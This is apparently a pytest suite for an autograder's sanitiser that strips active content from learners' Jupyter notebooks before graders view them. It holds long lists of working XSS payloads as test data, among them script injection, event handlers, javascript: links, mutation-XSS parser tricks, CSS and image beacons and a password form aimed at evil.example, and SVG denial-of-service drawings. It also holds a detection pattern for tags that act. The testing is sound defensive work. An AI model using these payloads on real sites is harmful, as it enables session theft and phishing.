"""Nothing that a learner puts into a notebook acts in the browser of who looks at it."""

import base64
import copy
import io
import json
import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import nbformat
import pytest
from nbconvert.filters.markdown import markdown2html_mistune
from PIL import Image

from autograder.checks.judging.thumbnail import Thumbnail
from autograder.checks.judging.verdict import AspectScore, Verdict
from autograder.checks.showing.card import MIME_TYPE, as_html
from autograder.grading.results import harmless as module
from autograder.grading.results.harmless import (
    MAX_HTML,
    MAX_TAGS,
    NO_CODE,
    NO_HTML,
    NO_ID,
    harmless,
    harmless_html,
    harmless_markdown,
)
from tests.grading.results.graded_results import COURSE

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="
)
"""A picture of one pixel."""

HTML_ATTACKS = [
    "<script>attack()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p onclick=attack()>x</p>",
    "<img src=x onerror=attack()>",
    "<img src=//evil.example/seen.png>",
    "<img/src='data:image/svg+xml,<svg onload=attack()>'>",
    "<svg onload=attack()></svg>",
    "<svg><a xlink:href='javascript:attack()'><text>x</text></a></svg>",
    "<a href='javascript:attack()'>x</a>",
    "<a href='jav&#x09;ascript:attack()'>x</a>",
    "<a href='&#106;avascript&colon;attack()'>x</a>",
    "<a href='data:text/html,<script>attack()</script>'>x</a>",
    "<a href=vbscript:attack()>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>attack()</script>'></iframe>",
    "<iframe src=javascript:attack()></iframe>",
    "<object data=javascript:attack()></object>",
    "<embed src=javascript:attack()>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<details open ontoggle=attack()>x</details>",
    "<video><source onerror=attack()></video>",
    "<body onload=attack()>",
    "<div style='background:url(//evil.example/seen)'>x</div>",
    "<div style='list-style:url(//evil.example/seen)'>x</div>",
    "<div style='list-style:\\75rl(//evil.example/seen)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px'>5 of 5</div>",
    "<style>@import '//evil.example/x.css'; * {display:none}</style>x",
    "<div id=check-3 class='navbar navbar-fixed-top' name=top>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=attack()>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=attack()&gt;'>",
    "<!--><img src=x onerror=attack()>-->",
    "<textarea><p title='</textarea><img src=x onerror=attack()>'>",
    "<template><script>attack()</script></template>",
    "<x-y onclick=attack()>x</x-y>",
    "</div></div></body><script>attack()</script>",
]
HIDDEN_ATTACKS = [
    "<p style='color:red;}position:fixed;color:blue'>x</p>",
    "<p style='pos/**/ition:fixed;position/**/:fixed'>x</p>",
    "<p style='background-color:@import \"//evil.example/x.css\"'>x</p>",
    "<b style='color:red' style='position:fixed' style=\"background:url(//evil.example)\">x</b>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=attack()></style></math>",
    "<svg></p><style><a title='</style><img src=x onerror=attack()>'>",
    "<svg><foreignobject><p title='</foreignobject><script>attack()</script>'>",
    "<svg/\0onload=attack()>",
    "<title><a title='</title><img src=x onerror=attack()>'>",
    "<xmp><p title='</xmp><img src=x onerror=attack()>'></xmp>",
    "<plaintext><img src=x onerror=attack()>",
    "<noembed><p title='</noembed><img src=x onerror=attack()>'></noembed>",
    "<select><noscript><option><p title='</noscript><img src=x onerror=attack()>'>",
    "<table><caption><b><table></caption><img src=x onerror=attack()><a id=x>",
    "<!--[if IE]><img src=x onerror=attack()><![endif]-->",
    "<!--a--!><img src=x onerror=attack()>-->",
    "<![CDATA[><img src=x onerror=attack()>]]>",
    "<?xml version='1'><img src=x onerror=attack()>?>",
    "<p title='<!--\x00--><img src=x onerror=attack()>\ud800'>x</p>",
    "<a href='https://\ud83d\x00evil' onclick\ud800=attack() \ud800onclick=attack()>x</a>",
    "<im\x00g src=x onerror=attack()><img\x00 src=x onerror=attack()>",
    "<scr\0ipt>attack()</scr\0ipt>",
    "<<script>script>attack()<</script>/script>",
]
"""Html that one reader takes for text, and another for tags."""

MARKDOWN_ATTACKS = [
    *HTML_ATTACKS,
    "[x](javascript:attack())",
    "[x](JavaScript:attack())",
    "[x](java&#115;cript:attack())",
    "[x](<javascript:attack()>)",
    "[x]( javascript:attack())",
    "[x](data:text/html,attack)",
    "[x][y]\n\n[y]: javascript:attack()",
    "<javascript:attack()>",
    "![x](//evil.example/seen.png)",
    "![x](https://evil.example/seen.png)",
    "![x](attachment:missing.png)",
    '![x](data:image/png,"onerror="attack())',
    '[x](https://y "title"onclick=attack())',
    "[x](/logout)",
    "```\n```\n<script>attack()</script>",
    "`` ` ``\n\n<script>attack()</script>",
    "\\<script>attack()</script>",
    "$$ <script>attack()</script> $$",
    "\\begin{a}<img src=x onerror=attack()>\\end{a}",
    "| a |\n|---|\n| <img src=x onerror=attack()> |",
    "    code\n<script>attack()</script>",
    "> " * 3_000,
    "[" * 100_000,
]


class Tags(HTMLParser):
    """All tags of a page with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attributes)))


ACTING = re.compile(
    r"^(script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|template|"
    r"video|audio|source|body|html|head|textarea|noscript|x-y)$"
)


def acts(html: str) -> bool:
    """Whether anything in the html runs, loads, leads elsewhere or hides what is around it."""
    for tag, attributes in Tags(html).found:
        if ACTING.search(tag):
            return True
        for name, value in attributes.items():
            text = value or ""
            if name.startswith("on") or name in (
                "srcdoc",
                "srcset",
                "action",
                "xlink:href",
                "name",
            ):
                return True
            if name == "style" and re.search(r"[(\\@]|position|z-index", text):
                return True
            if name == "src" and not text.startswith("data:image/png;base64,"):
                return True
            if name == "href" and not re.match(r"(https?://|#|\d\d-[a-z0-9-]+\.ipynb$)", text):
                return True
    return False


@pytest.mark.parametrize("html", HTML_ATTACKS)
def test_html_that_is_shown_does_not_act(html: str) -> None:
    assert acts(html) or "<scr" in html or "id=" in html or "<!--" in html
    clean = harmless_html(html)
    assert not acts(clean)
    assert not re.search(r"<[^>]*\s(id|class)=", clean)


@pytest.mark.parametrize("text", MARKDOWN_ATTACKS, ids=lambda text: text[:60])
def test_markdown_does_not_act_when_nbgrader_lays_it_out(text: str) -> None:
    assert not acts(markdown2html_mistune(harmless_markdown(text)))


@pytest.mark.parametrize("html", HIDDEN_ATTACKS)
def test_html_that_is_read_in_two_ways_does_not_act(html: str) -> None:
    assert not acts(harmless_html(html))


@pytest.mark.parametrize("html", [*HTML_ATTACKS, *HIDDEN_ATTACKS])
def test_what_cleans_html_needs_no_other_guard(html: str) -> None:
    clean = module.CLEANER.clean(html.encode(errors="replace").decode())
    assert not acts(clean)
    assert module.CLEANER.clean(clean) == clean


def test_characters_that_are_none_are_no_obstacle() -> None:
    assert harmless_html("a\ud800\x00b\udfff").endswith(">a?b?</div>")


def test_a_stranger_cannot_close_the_box_that_his_html_is_in() -> None:
    clean = harmless_html("</div></div><b>x")
    assert clean.count("<div") == clean.count("</div>") == 1
    assert clean.endswith("</b></div>")


COPIES = "<p>" + "".join(f"<b title={number}>" for number in range(1000)) + "<p>x" * 3900
LONG_COPIES = f"<p><b title={'x' * 30_000}>" + "<p>x" * 4900


@pytest.mark.parametrize(
    "html",
    ["<b>" * 10_000, "x" * (MAX_HTML + 1), "<script>1</script>", COPIES, LONG_COPIES],
    ids=["tags", "long", "script", "copies", "long copies"],
)
def test_html_that_would_be_of_no_use_or_take_long_is_replaced_by_a_remark(html: str) -> None:
    assert harmless_html(html) == NO_HTML


def test_a_table_and_a_picture_stay() -> None:
    table = '<table border="1" class="dataframe"><tbody><tr><td>1</td></tr></tbody></table>'
    assert table in harmless_html(f"<style scoped>td {{color: red}}</style>{table}")
    formatted = '<tr><td><b title="x">1</b></td></tr>' * 800
    formatted = f"<table><tbody>{formatted}</tbody></table>"
    assert formatted in harmless_html(formatted)
    picture = f'<img alt="a" src="data:image/png;base64,{PIXEL}">'
    assert picture in harmless_html(picture)


@pytest.mark.parametrize(
    "text",
    [
        "# My notes\n\n- **bold**, `code`, $a < b$, *x*\n\n> quoted",
        "[the page](https://example.org/a?b=c#d) and <https://example.org>",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "<details><summary>more</summary>\n\ntext\n\n</details>",
        "```python\nprint(1)\n```",
    ],
)
def test_honest_markdown_stays_as_it_is(text: str) -> None:
    assert harmless_markdown(text).replace(NO_ID, "") == text


@pytest.mark.parametrize(
    "text",
    [
        *("# check-3", "#\tcheck-3", "## exercise-3-comment ##", "> # check-3", "1. # check-3"),
        *("check-5\n=====", "> check-5\n> --", "# ch**ec**&#107;-6", "# # check-3", "text\n### x"),
        *("# check-3\r\n", "check-3\r\n---\r\n", "- check-3\n  ==="),
    ],
)
def test_no_heading_has_the_id_of_a_field_of_the_formgrader(text: str) -> None:
    tags = Tags(markdown2html_mistune(harmless_markdown(text))).found
    ids = [attributes["id"] or "" for _, attributes in tags if "id" in attributes]
    assert ids, "it is a heading"
    assert all(quote(NO_ID) in name for name in ids)


def test_markdown_that_is_not_laid_out_can_be_read_as_typed() -> None:
    html = markdown2html_mistune(harmless_markdown("**see** <script>1</script> ```x```"))
    assert "**see** &lt;script&gt;1&lt;/script&gt; ```x```" in html


def solved(name: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """A solved notebook, and the same made harmless."""
    notebook = json.loads((COURSE.folder / f"{name}.ipynb").read_bytes())
    return notebook, harmless(copy.deepcopy(notebook))


@pytest.mark.parametrize("name", COURSE.notebooks)
def test_the_courses_own_text_stays_as_it_is(name: str) -> None:
    before, after = solved(name)
    for old, new in zip(before["cells"], after["cells"], strict=True):
        assert (old["id"], old["cell_type"]) == (new["id"], new["cell_type"])
        assert "".join(old["source"]) == new["source"].replace(NO_ID, "")
        assert old["metadata"].get("nbgrader") == new["metadata"].get("nbgrader")
    nbformat.validate(after)


def look(html: str) -> list[tuple[str, dict[str, str]]]:
    """All tags with their attributes; .6em and 0.6em are the same."""
    return [
        (tag, {key: re.sub(r"\B\.(?=\d)", "0.", value or "") for key, value in attributes.items()})
        for tag, attributes in Tags(html).found
    ]


@pytest.mark.parametrize("name", COURSE.notebooks)
def test_cards_look_as_before(name: str) -> None:
    before, after = solved(name)
    for old, new in zip(before["cells"], after["cells"], strict=True):
        if old["id"].startswith("check-"):
            (was,), (now,) = old["outputs"], new["outputs"]
            assert look("".join(was["data"]["text/html"])) == look(now["data"]["text/html"])[1:]


def test_a_card_with_pictures_looks_as_before() -> None:
    picture = Thumbnail(*(f"data:image/png;base64,{PIXEL}",) * 2, words="Differs in the north")
    verdict = Verdict(
        5,
        "NDVI",
        (AspectScore("values", 3, 0),),
        mistake="swapped",
        message="Read `B8` first; 1 < 2.",
        found="(250, 250) from -1 to 1",
        expected="<b>",
        picture=picture,
    )
    assert look(as_html(verdict)) == look(harmless_html(as_html(verdict)))[1:]


def notebook(**cell: Any) -> dict[str, Any]:
    """A notebook with one cell."""
    cell = {"cell_type": "code", "id": "x", "metadata": {}, "source": "", "outputs": []} | cell
    return {"cells": [cell], "metadata": {}, "nbformat": 4}


def only_cell(content: dict[str, Any]) -> dict[str, Any]:
    (cell,) = harmless(content)["cells"]
    return cell


@pytest.mark.parametrize(
    "kind",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.bokehjs_exec.v0+json",
        "application/pdf",
        "text/vnd.mermaid",
    ],
)
def test_outputs_of_kinds_that_act_are_left_out(kind: str) -> None:
    data = {kind: "attack()", "text/plain": "1"}
    output = {"output_type": "display_data", "data": data, "metadata": {"isolated": True}}
    (shown,) = only_cell(notebook(outputs=[output]))["outputs"]
    assert shown == {"output_type": "display_data", "data": {"text/plain": "1"}, "metadata": {}}


def test_html_and_markdown_among_outputs_do_not_act() -> None:
    data = {"text/html": "<script>attack()</script>", "text/markdown": "[x](javascript:attack())"}
    data |= {"image/png": '"onerror="attack()', "image/svg+xml": "<svg onload='attack()'/>"}
    output = {"output_type": "execute_result", "data": data, "execution_count": "<script>"}
    metadata = {"image/svg+xml": {"width": "1 onerror=attack()", "alt": "a drawing"}}
    (shown,) = only_cell(notebook(outputs=[output | {"metadata": metadata}]))["outputs"]
    assert shown["execution_count"] is None
    assert shown["metadata"] == {"image/svg+xml": {"alt": "a drawing"}}
    assert shown["data"].keys() == {"text/html", "text/markdown"}
    assert not acts(shown["data"]["text/html"])
    assert not acts(markdown2html_mistune(shown["data"]["text/markdown"]))


@pytest.mark.parametrize(
    "metadata",
    [
        {"tags": ['"><script>attack()</script>']},
        {"nbgrader": {"grade_id": '"><script>attack()</script>', "grade": True}},
        {"nbgrader": {"grade_id": "x", "comment": {"a": 1}}},
        {"magics_language": "html", "name": "x"},
    ],
)
def test_metadata_of_other_kinds_than_nbgraders_is_left_out(metadata: dict[str, Any]) -> None:
    assert only_cell(notebook(metadata=metadata, id='"onclick="'))["metadata"] == {}
    assert only_cell(notebook(id='"onclick="'))["id"] == "cell-0"


def test_raw_cells_are_shown_as_typed() -> None:
    cell = only_cell(notebook(cell_type="raw", source="<https://x/contenteditable/onfocus=a()>"))
    assert cell["source"] == "&lt;https://x/contenteditable/onfocus=a()&gt;"


def test_a_flood_of_tags_hides_html_but_no_verdict() -> None:
    flood = {"output_type": "stream", "name": "stdout", "text": "<" * (MAX_TAGS + 1)}
    card = {"text/html": "<b>0 of 5</b>", MIME_TYPE: {"score": 0}}
    both = [card, {"text/html": "<b>5 of 5</b>"}]
    outputs = [{"output_type": "display_data", "data": data, "metadata": {}} for data in both]
    _, verdict, picture = only_cell(notebook(outputs=[flood, *outputs]))["outputs"]
    assert "<b>0 of 5</b>" in verdict["data"]["text/html"]
    assert picture["data"]["text/html"] == NO_HTML


def test_code_that_takes_too_long_to_be_given_colours_is_left_out(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(module, "TIMEOUT", 1)
    slow = "x = 1" + "\n\t" * 5_000 + "\n%time"
    assert only_cell(notebook(source=slow))["source"] == NO_CODE
    long = "x = 1\n" * 2_000
    assert only_cell(notebook(source=long))["source"] == long


def test_attachments_are_left_out() -> None:
    attached = {"a.png": {"image/png": PIXEL, "text/html": "<script>attack()</script>"}}
    cell = only_cell(
        notebook(cell_type="markdown", source="![x](attachment:a.png)", attachments=attached)
    )
    assert "attachments" not in cell
    assert not acts(markdown2html_mistune(cell["source"]))


def png(width: int, height: int) -> str:
    """A picture of one colour: large in a browser, small as a file."""
    buffer = io.BytesIO()
    Image.new("1", (width, height)).save(buffer, "PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def displayed(*outputs: dict[str, str]) -> list[dict[str, str]]:
    """What is left of outputs in a harmless notebook."""
    sent = [{"output_type": "display_data", "data": d, "metadata": {}} for d in outputs]
    return [output["data"] for output in only_cell(notebook(outputs=sent))["outputs"]]


USES = "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))


@pytest.mark.parametrize(
    "drawing",
    [
        f'<svg xmlns="http://www.w3.org/2000/svg"><g id="a0"><circle r="1"/></g>{USES}</svg>',
        '<svg><filter id="f"><feGaussianBlur stdDeviation="9999"/></filter></svg>',
        '<svg width="99999" height="99999"><pattern width="1e-9" height="1e-9"/></svg>',
    ],
)
@pytest.mark.parametrize("beside", [{}, {"text/plain": "<Figure>"}, {"text/html": "<b>1</b>"}])
def test_drawings_that_can_hold_up_a_browser_are_left_out(
    drawing: str, beside: dict[str, str]
) -> None:
    [shown] = displayed({"image/svg+xml": drawing, **beside})
    assert "image/svg+xml" not in shown
    assert shown["text/html"]  # it says what is not shown, or shows what stood beside it
    [shown] = displayed({"image/svg+xml": drawing, "image/png": PIXEL})
    assert shown == {"image/png": PIXEL}


@pytest.mark.parametrize("kind", ["image/png", "image/jpeg"])
def test_giant_pictures_are_left_out(kind: str) -> None:
    fits, giant = png(5_000, 4_000), png(30_000, 30_000)
    assert displayed({kind: fits}) == [{kind: fits}]
    assert displayed({kind: giant}) == [{}]
    assert displayed({kind: base64.b64encode(b"no picture" * 99).decode()}) == [{}]


def test_giant_pictures_in_html_are_left_out() -> None:
    [shown] = displayed({"text/html": f'<img src="data:image/png;base64,{png(30_000, 30_000)}">'})
    assert "base64" not in shown["text/html"]


@pytest.mark.parametrize("in_html", [True, False])
def test_many_large_pictures_are_bounded_together(in_html: bool) -> None:
    large = png(4_000, 4_000)
    tag = f'<img src="data:image/png;base64,{large}">'
    one = {"text/html": tag} if in_html else {"image/png": large}
    shown = displayed(*[one] * 20)
    assert 5 < sum(large in str(output) for output in shown) < 15


@pytest.mark.parametrize("kind", ["markdown", "raw"])
def test_text_cells_are_bounded_together(kind: str) -> None:
    text = {"cell_type": kind, "metadata": {}, "source": "<" * 100_000}
    shown = harmless({"cells": [text] * 100})["cells"]
    assert sum(len(cell["source"]) for cell in shown) < 1_100_000
    assert "<" not in shown[-1]["source"]
    assert "more text" in shown[-1]["source"]
